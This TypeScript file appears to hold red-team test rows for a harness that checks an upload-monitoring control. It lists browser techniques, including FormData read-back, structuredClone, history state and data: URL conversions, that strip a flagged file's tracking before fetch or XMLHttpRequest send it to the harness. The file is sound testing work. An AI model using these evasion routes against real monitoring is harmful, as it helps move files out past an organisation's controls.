/**
 * Red team web6 findings F1 and F2 (/work/scratch/hunt/web6, rows copied from its hunt6.ts, ids kept):
 * a copy the page makes of a File, or of what it derived from one, that lost the File's decision, so a
 * file marked by its name alone (its content clean) arrived.
 * - F1: a FormData holding the file under another name, read back out of a Response or a Request
 *   (`formData()`, `blob()`, `arrayBuffer()`): the read-back came with no link to its source, after the
 *   employee had dismissed the warning the append raised.
 * - F2: copies of a File-derived Blob: `structuredClone`, a history state read back, and the common
 *   "data: URL to Blob" helper (`fetch(dataURL).blob()`, an XMLHttpRequest GET of the data: URL).
 * A clean file's copy must still arrive, byte for byte.
 */
import type { Technique } from '../harness.js';

const rows: Technique[] = [
  // ---- F1: a FormData read back out of a Response or a Request ----
  {
    id: 'h6-response-formdata-readback',
    title: 'new Response(formData with the file as "upload.bin").formData(): the read-back entry PUT by fetch',
    carries: ['file'],
    run: async (p, t) => {
      const fd = new FormData();
      fd.append('file', t.file(p), 'upload.bin');
      const back = (await new Response(fd).formData()).get('file') as File;
      return t.settle(fetch(t.url('h6-response-formdata-readback'), { method: 'PUT', body: back }));
    },
  },
  {
    id: 'h6-response-formdata-readback-xhr',
    title: 'new Response(formData with the file as "upload.bin").formData(), the entry sent by XMLHttpRequest in a new FormData after 2 s',
    carries: ['file'],
    run: async (p, t) => {
      const fd = new FormData();
      fd.append('file', t.file(p), 'upload.bin');
      const back = (await new Response(fd).formData()).get('file') as File;
      await t.sleep(2000);
      const out = new FormData();
      out.append('file', back);
      return new Promise((resolve) => {
        const x = new XMLHttpRequest();
        x.open('POST', t.url('h6-response-formdata-readback-xhr'));
        x.onloadend = resolve;
        x.send(out);
      });
    },
  },
  {
    id: 'form-readback-response-blob',
    title: 'new Response(formData with the file as "upload.bin").blob(): the multipart bytes PUT by fetch',
    carries: ['file'],
    run: async (p, t) => {
      const fd = new FormData();
      fd.append('file', t.file(p), 'upload.bin');
      const r = new Response(fd);
      const body = await r.blob();
      return t.settle(fetch(t.url('form-readback-response-blob'), { method: 'POST', headers: { 'content-type': r.headers.get('content-type')! }, body }));
    },
  },
  {
    id: 'form-readback-request-bytes',
    title: 'new Request(url, { body: formData with the file as "upload.bin" }).clone().arrayBuffer(): the multipart bytes POSTed',
    carries: ['file'],
    run: async (p, t) => {
      const fd = new FormData();
      fd.append('file', t.file(p), 'upload.bin');
      const r = new Request(location.href, { method: 'POST', body: fd });
      const body = await r.clone().arrayBuffer();
      return t.settle(fetch(t.url('form-readback-request-bytes'), { method: 'POST', headers: { 'content-type': r.headers.get('content-type')! }, body }));
    },
  },
  {
    id: 'form-request-renamed',
    title: 'fetch(new Request(url, { body: formData with the file as "upload.bin" }))',
    carries: ['file'],
    run: (p, t) => {
      const fd = new FormData();
      fd.append('file', t.file(p), 'upload.bin');
      return t.settle(fetch(new Request(t.url('form-request-renamed'), { method: 'POST', body: fd })));
    },
  },
  // ---- F2: copies of a File-derived Blob ----
  {
    id: 'h6-structuredclone-blob-xhr',
    title: 'structuredClone(new Blob([file])) in a FormData as "upload.bin", sent by XMLHttpRequest',
    carries: ['file'],
    run: (p, t) =>
      new Promise((resolve) => {
        const copy = structuredClone(new Blob([t.file(p)]));
        const fd = new FormData();
        fd.append('file', copy, 'upload.bin');
        const x = new XMLHttpRequest();
        x.open('POST', t.url('h6-structuredclone-blob-xhr'));
        x.onloadend = resolve;
        x.send(fd);
      }),
  },
  {
    id: 'h6-structuredclone-slice-fetch',
    title: 'structuredClone(file.slice()) PUT by fetch',
    carries: ['file'],
    run: (p, t) => t.settle(fetch(t.url('h6-structuredclone-slice-fetch'), { method: 'PUT', body: structuredClone(t.file(p).slice()) })),
  },
  {
    id: 'structuredclone-bytes',
    title: "structuredClone({ bytes: await file.arrayBuffer() }), the copy's bytes PUT by fetch",
    carries: ['file'],
    run: async (p, t) => {
      const copy = structuredClone({ bytes: await t.file(p).arrayBuffer() });
      return t.settle(fetch(t.url('structuredclone-bytes'), { method: 'PUT', body: copy.bytes }));
    },
  },
  {
    id: 'h6-history-state-blob',
    title: 'history.replaceState({ b: new Blob([file]) }) then history.state.b (a structured clone) PUT by fetch',
    carries: ['file'],
    run: async (p, t) => {
      history.replaceState({ b: new Blob([t.file(p)]) }, '');
      const b = (history.state as { b: Blob }).b;
      history.replaceState(null, '');
      return t.settle(fetch(t.url('h6-history-state-blob'), { method: 'PUT', body: b }));
    },
  },
  {
    id: 'h6-dataurl-fetch-blob',
    title: 'readAsDataURL(file), then fetch(dataURL).blob() (the common "data URL to Blob" helper), the Blob PUT',
    carries: ['file'],
    run: async (p, t) => {
      const reader = new FileReader();
      const read = new Promise((r) => (reader.onload = r));
      reader.readAsDataURL(t.file(p));
      await read;
      const b = await (await fetch(reader.result as string)).blob();
      return t.settle(fetch(t.url('h6-dataurl-fetch-blob'), { method: 'PUT', body: b }));
    },
  },
  {
    id: 'h6-xhr-dataurl-blob',
    title: 'readAsDataURL(file), then XMLHttpRequest GET of the data: URL with responseType "blob", the Blob PUT by fetch',
    carries: ['file'],
    run: async (p, t) => {
      const reader = new FileReader();
      const read = new Promise((r) => (reader.onload = r));
      reader.readAsDataURL(t.file(p));
      await read;
      const b = await new Promise<Blob>((resolve) => {
        const x = new XMLHttpRequest();
        x.open('GET', reader.result as string);
        x.responseType = 'blob';
        x.onload = () => resolve(x.response);
        x.send();
      });
      return t.settle(fetch(t.url('h6-xhr-dataurl-blob'), { method: 'PUT', body: b }));
    },
  },
];

export default rows;
